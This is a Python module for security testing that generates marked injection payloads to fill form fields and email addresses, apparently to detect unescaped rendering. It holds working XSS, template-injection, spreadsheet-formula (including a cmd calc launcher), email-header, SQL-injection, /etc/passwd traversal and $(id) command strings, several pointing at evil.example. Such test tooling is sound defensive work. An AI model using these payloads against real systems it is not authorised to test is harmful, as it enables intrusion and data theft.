"""Texts that were written to break something. Pure.

``§`` stands for the mark of the text, which tells it from all others: ``zq07z``. Whatever would
become an element carries ``data-zq``, so that it can be found where it must not be.
"""

import re
from collections import Counter
from dataclasses import dataclass
from itertools import cycle, islice

# What a template makes of the sum in it; nothing else on a page is this number.
WORKED_OUT = "1337zq"
# A local part of an address may hold these besides letters and digits (RFC 5321).
IN_ADDRESSES = re.compile(r"[^A-Za-z0-9!#$%&'*+/=?^_`{|}~-]")
LONGEST_LOCAL = 60

MARK = re.compile(r"zq\d\dz")

_MARKUP = (
    '"><svg data-zq=§ onload=alert(§)>',
    "<img data-zq=§ src=x onerror=alert(§)>",
    "'><img data-zq=§ src=x onerror=alert(§)>",
    '<script data-zq=§>alert("§")</script>',
    '</textarea><script data-zq=§>alert("§")</script>',
    '</title><svg data-zq=§ onload=alert("§")>',
    '</script><script data-zq=§>alert("§")</script>',
    "<!--<script data-zq=§>",
    "--><img data-zq=§ src onerror=alert(§)>",
    "]]><svg data-zq=§ onload=alert(§)>",
    "</style><svg data-zq=§ onload=alert(§)>",
    '</noscript><iframe data-zq=§ srcdoc="<script>parent.alert(1)</script>">',
    "<details data-zq=§ open ontoggle=alert(§)>",
    "<a data-zq=§ href=javascript:alert(§)>§</a>",
    'javascript:alert("§")//',
    '" autofocus onfocus=alert("§") data-zq="§',
    "' onmouseover='alert(1)' data-zq='§",
    "` onmouseover=alert(1) data-zq=§ `",
    '<math data-zq=§><mi xlink:href="data:x,<script>alert(1)</script>">',
    "<svg data-zq=§><animate onbegin=alert(1) attributeName=x dur=1s>",
    '\\"}]};alert("§");//',
    "\\u003cimg data-zq=§ src=x onerror=alert(1)\\u003e",
    "&lt;img data-zq=§ src=x onerror=alert(1)&gt;",
    "%3Csvg data-zq=§ onload=alert(1)%3E",
    "<\u017fcript data-zq=§ src=//evil.example/§></\u017fcript>",
    "\uff1csvg data-zq=§ onload=alert(1)\uff1e",
    "{{constructor.constructor('alert(\"§\")')()}}",
)
_RICH = (
    '<a data-zq=§ href="jav&#x09;ascript:alert(1)">§</a>',
    "<iframe data-zq=§ src=https://evil.example/></iframe>",
    "<form data-zq=§ action=https://evil.example/><input name=§ id=§>",
    '<meta data-zq=§ http-equiv=refresh content="0;url=https://evil.example/">',
    "<p data-zq=§ style=position:fixed;inset:0>",
    "<b id=§ name=cookie data-zq=§>§</b>",
    "<base data-zq=§ href=https://evil.example/>",
    "<link data-zq=§ rel=stylesheet href=https://evil.example/§.css>",
    "<style data-zq=§>@import url(https://evil.example/);*{display:none}</style>",
    "<link data-zq=§ rel=attachment href=file:///etc/passwd>",
    "<img data-zq=§ src=file:///etc/passwd>",
    "![§](https://evil.example/§.png)",
    "[§](javascript:alert(1))",
    "# §",
)
_TEMPLATE = (
    "{{191*7}}§",
    "{% for x in (1,) %}§{% endfor %}",
    "${191*7}§",
    "#{191*7}§",
    "<%= 191*7 %>§",
    "%(x)s %s %n §",
    "{0.__class__}§",
    "{product.__class__.__mro__}§",
    "$(id) `id` §",
)
_CELL = (
    '=1+1+"§"',
    "+1+§",
    "-1+§",
    "@SUM(A1)§",
    "\t=§",
    "\r=§",
    "\n=§",
    '"=§',
    ";=§",
    "|§",
    "\uff1d§",
    '=HYPERLINK("https://evil.example/§","§")',
    "=cmd|' /C calc'!§",
)
_HEADER = (
    "§\r\nBcc: §@evil.example",
    "§\n\n<html data-zq=§>",
    "§ : x\r\nContent-Type: text/html",
)
_TEXT = (
    "'; DROP TABLE people; --§",
    "../../../etc/passwd§",
    "\u202e§\u202c",
    "a\u200b§",
    "e" + 60 * "\u0301" + "§",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467§",
    "\u00e9 e\u0301 §",
)
_KINDS = {
    "markup": _MARKUP,
    "rich": _RICH,
    "template": _TEMPLATE,
    "cell": _CELL,
    "header": _HEADER,
    "text": _TEXT,
}


@dataclass(frozen=True, slots=True)
class Payload:
    """A hostile text, and the mark by which it is found again."""

    number: int
    kind: str
    text: str

    @property
    def mark(self) -> str:
        return mark_of(self.number)

    @property
    def as_shown(self) -> str:
        """What of it can be read where it is plain text: white space is all one there."""
        return flat(self.text)

    @property
    def as_local_part(self) -> str:
        """As much of it as may stand before the @ of an address."""
        return f"{IN_ADDRESSES.sub('', self.text)[: LONGEST_LOCAL - 6]}{self.mark}"


def mark_of(number: int) -> str:
    return f"zq{number:02d}z"


def flat(text: str) -> str:
    """Return the text with each stretch of white space as one space, and none around it."""
    return " ".join(text.split())


def _payloads() -> tuple[Payload, ...]:
    every = [(kind, text) for kind, texts in _KINDS.items() for text in texts]
    return tuple(
        Payload(number, kind, text.replace("§", mark_of(number)))
        for number, (kind, text) in enumerate(every, 1)
    )


PAYLOADS = _payloads()


class Texts:
    """Hands out payloads for one field after the other, each time beginning with the next one."""

    def __init__(self, payloads: tuple[Payload, ...] = PAYLOADS) -> None:
        self.payloads = payloads
        self._turn = 0
        self._given: Counter[Payload] = Counter()
        self.typed = 0
        self.unfit = 0

    def text(self, longest: int, *, before: str = "", between: str = " ", without: str = "") -> str:
        """Return as many of them as fit into a field of so many characters.

        ``before`` are words that the field needs to be taken at all, ``without`` characters that
        it does not take.
        """
        turned = islice(cycle(self.payloads), self._turn, self._turn + len(self.payloads))
        self._turn = (self._turn + 1) % len(self.payloads)
        found = before
        for payload in turned:
            longer = f"{found}{between}{payload.text}" if found else payload.text
            if len(longer) <= longest and not set(without) & set(payload.text):
                found = longer
        self.typed += found != before
        self.unfit += found == before
        return found or "None fits."

    def email(self) -> str:
        """Return an address that nobody has yet; its local part is a payload, as far as it may."""
        payload = self.payloads[self._turn]
        self._turn = (self._turn + 1) % len(self.payloads)
        self.typed += 1
        self._given[payload] += 1
        host = f"{self._given[payload]}.example.com" if self._given[payload] > 1 else "example.com"
        return f"{payload.as_local_part}@{host}"
